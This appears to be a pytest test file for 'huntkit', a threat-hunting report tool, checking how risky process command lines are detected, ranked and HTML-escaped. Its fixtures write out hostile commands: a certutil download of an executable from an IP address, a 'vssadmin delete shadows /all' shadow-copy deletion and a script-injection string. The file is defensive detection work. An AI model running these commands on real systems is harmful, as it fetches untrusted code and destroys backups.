"""Risky command lines of the report, and how they rank process branches."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import huntkit
from huntkit.report import processes, risky_section, sections
from huntkit.report.document import report
from huntkit.report.facts import Facts, gather
from huntkit.report.layouts import layouts
from huntkit.report.summing import summed

Make = Callable[..., Any]
DOWNLOAD = "certutil -urlcache -f http://198.51.100.9/a a.exe"


@pytest.fixture
def facts(evidence: Make, process_rows: Make) -> Facts:
    starts = process_rows(
        {"ProcessCommandLine": "whoami", "ProcessId": 5},
        *({"ProcessCommandLine": DOWNLOAD, "ProcessId": n, "_record": n} for n in (7, 8)),
        {"ProcessCommandLine": "<script>alert(1)</script> vssadmin delete shadows /all"},
        {"ProcessCommandLine": "notepad.exe"},
    )
    return gather(evidence({"DeviceProcessEvents": starts}))


def test_each_risky_line_is_one_row_the_most_severe_first(facts: Facts) -> None:
    found = facts.risky.select("Severity", "Input", "Mentions")
    assert found["Severity"].to_list()[-1] == "low"
    assert ("high", DOWNLOAD, 2) in found.rows()
    assert found["Input"].is_unique().all()
    assert "notepad.exe" not in found["Input"].to_list()


def test_the_section_shows_technique_reason_and_rows(facts: Facts) -> None:
    [block] = risky_section.section(facts).blocks
    card = next(each for each in block["cards"] if each.code == DOWNLOAD)
    assert "T1105" in card.score
    assert card.reason
    assert card.rows == "2 rows of DeviceProcessEvents"
    assert [short for short, _ in card.places] == ["a.json, 7", "a.json, 8"]
    assert (card.kind, card.tone) == ("high", "alarm")
    assert ("Risky commands", "3", "risky", "alarm") in sections.tiles(facts)


def test_the_first_tile_counts_what_is_red(facts: Facts) -> None:
    red = facts.risky.filter(facts.risky["Severity"].is_in(["high", "critical"])).height
    assert red == 2
    assert facts.notable.height == 0
    assert sections.tiles(facts)[0] == ("Alarming", "2", "risky", "alarm")
    assert summed(facts).alarming == 2


def test_what_is_shown_is_bounded_and_counted(evidence: Make, process_rows: Make) -> None:
    lines = [{"ProcessCommandLine": f"{DOWNLOAD} {n}", "ProcessId": n} for n in range(1, 81)]
    found = gather(evidence({"DeviceProcessEvents": process_rows(*lines)}))
    [block] = risky_section.section(found).blocks
    assert len(block["cards"]) + len(block["folded"]) == risky_section.MOST
    assert block["total"] == 80


def test_hostile_lines_stay_text(evidence: Make, process_rows: Make) -> None:
    line = "<script>alert(1)</script> vssadmin delete shadows /all"
    page = report(evidence({"DeviceProcessEvents": process_rows({"ProcessCommandLine": line})}))
    html = page.to_html()
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)" in html


def test_evidence_without_command_lines_says_so(evidence: Make) -> None:
    page = report(evidence({})).to_html()
    assert "Not judged: no command lines in this evidence." in page


def test_a_risky_branch_stands_before_one_that_is_merely_rare(
    evidence: Make, process_rows: Make
) -> None:
    def start(number: int, name: str, line: str) -> dict[str, Any]:
        return {
            "ProcessId": number,
            "ProcessUniqueId": f"k{number}",
            "FileName": name,
            "FolderPath": f"C:\\Windows\\{name}",
            "ProcessCommandLine": line,
            "InitiatingProcessFileName": f"parent{number % 2}.exe",
            "InitiatingProcessId": 4 + number % 2,
            "_record": number,
        }

    rows = process_rows(
        start(10, "updater.exe", "updater.exe /silent"),
        start(21, "certutil.exe", "certutil -hashfile a"),
        start(23, "certutil.exe", DOWNLOAD),
    )
    made = evidence({"DeviceProcessEvents": rows})
    first, *rest = processes.branches(processes.processes(made, layouts(made), []))
    assert first.why.startswith("high: ")
    assert any(DOWNLOAD in node.command and node.tone == "alarm" for node in first.nodes)
    assert any("updater.exe" in branch.title and not branch.why for branch in rest)


def test_an_unusual_start_counts_beside_the_rules(evidence: Make, process_rows: Make) -> None:
    usual = [
        {
            "ProcessId": n,
            "ProcessUniqueId": f"k{n}",
            "FileName": "svchost.exe",
            "FolderPath": r"C:\Windows\System32\svchost.exe",
            "ProcessCommandLine": "svchost.exe -k a",
            "InitiatingProcessFolderPath": r"C:\Windows\System32\services.exe",
            "InitiatingProcessFileName": "services.exe",
            "InitiatingProcessId": 4,
            "_record": n,
        }
        for n in range(100, 180)
    ]
    odd = {
        **usual[0],
        "ProcessId": 999,
        "ProcessUniqueId": "odd",
        "FileName": "svchost.exe",
        "FolderPath": r"C:\Users\anna\Downloads\svchost.exe",
        "InitiatingProcessFolderPath": r"C:\Program Files\Office\WINWORD.EXE",
        "InitiatingProcessFileName": "WINWORD.EXE",
        "InitiatingProcessId": 6,
    }
    made = evidence({"DeviceProcessEvents": process_rows(*usual, odd)})
    found = processes.branches(processes.processes(made, layouts(made), []))
    assert found[0].why.startswith("unusual start, ")
    assert found[0].title == "WINWORD.EXE → svchost.exe"


@pytest.mark.data
@pytest.mark.parametrize(
    ("archive", "program"),
    [
        ("execution/host/empire_launcher_vbs.zip", "wscript.exe"),
        ("defense_evasion/host/cmd_bitsadmin_download_psh_script.zip", "bitsadmin.exe"),
        ("lateral_movement/host/covenant_psremoting_command.zip", "wsmprovhost.exe"),
    ],
)
def test_the_branch_of_the_attack_comes_first(
    shared_data: Path, archive: str, program: str
) -> None:
    path = shared_data / "security-datasets/atomic/windows" / archive
    with huntkit.open(path, cache=False) as evidence:
        tree = processes.processes(evidence, layouts(evidence), [])
    first, *rest = processes.branches(tree)
    assert first.why
    assert program in {node.name for node in first.nodes}
    assert rest
    drawn = huntkit.charts.process_tree(tree)  # the picture puts the same process in front
    nodes = json.loads(drawn.blobs["nodes"])
    foremost = drawn.data["FileName"][nodes["place"].index(0)]
    assert foremost == first.title.rsplit(" → ")[-1]
    assert drawn.spec["order"] == "foremost"


def test_what_two_rules_say_in_the_same_words_is_told_once(
    evidence: Make, process_rows: Make
) -> None:
    rows = process_rows({"ProcessCommandLine": "arp -a"})
    [row] = gather(evidence({"DeviceProcessEvents": rows})).risky.to_dicts()
    assert (len(row["Titles"]), len(row["Reasons"]), len(row["Rules"])) == (1, 1, 1)
